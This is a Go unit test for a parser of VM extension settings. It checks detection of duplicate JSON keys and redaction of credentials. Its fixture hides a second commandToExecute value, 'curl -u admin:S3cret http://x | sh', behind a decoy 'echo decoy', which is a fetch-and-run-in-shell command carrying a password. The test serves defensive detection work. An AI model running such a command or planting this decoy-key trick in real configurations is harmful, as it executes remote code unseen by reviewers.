package extensions

import (
	"strings"
	"testing"
)

// A key written twice: the last value is kept (what the Go handlers, the
// Python agent and .NET read), and the duplicate is reported with both
// values, redacted on request.
func TestDuplicateKeys(t *testing.T) {
	data := `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{
"commandToExecute":"echo decoy","fileUris":[],"commandToExecute":"curl -u admin:S3cret http://x | sh",
"CommandToExecute":"third"}}}]}`
	s, err := ParseSettings([]byte(data))
	if err != nil {
		t.Fatal(err)
	}
	if s.Command != "curl -u admin:S3cret http://x | sh" {
		t.Errorf("command %q: the last value is the one acted on", s.Command)
	}
	if len(s.Dups) != 2 {
		t.Fatalf("dups %+v", s.Dups)
	}
	d := s.Dups[0]
	if d.Path != "$.runtimeSettings[0].handlerSettings.publicSettings" || d.Key != "commandToExecute" ||
		d.First != "echo decoy" || d.Last != "curl -u admin:S3cret http://x | sh" {
		t.Errorf("dup %+v", d)
	}
	want := `key "commandToExecute" written twice in $.runtimeSettings[0].handlerSettings.publicSettings: first "echo decoy", then "curl -u admin:[REDACTED] http://x | sh"; the last is kept, as Go encoding/json, Python json and .NET Newtonsoft.Json read it`
	if got := d.Message(true); got != want {
		t.Errorf("message\n got  %s\n want %s", got, want)
	}
	if got := d.Message(false); !strings.Contains(got, "S3cret") {
		t.Errorf("redact=false hides the value: %s", got)
	}
	c := s.Dups[1]
	if c.Key != "CommandToExecute" || c.Other != "commandToExecute" || c.Last != "third" ||
		!strings.Contains(c.Message(true), "differ only in case") {
		t.Errorf("case dup %+v %s", c, c.Message(true))
	}

	st, err := ParseStatus([]byte(`[{"status":{"status":"success","status":"error","code":0}}]`))
	if err != nil {
		t.Fatal(err)
	}
	if st.State != "error" || len(st.Dups) != 1 || st.Dups[0].Path != "$[0].status" {
		t.Errorf("status: %q %+v", st.State, st.Dups)
	}
}
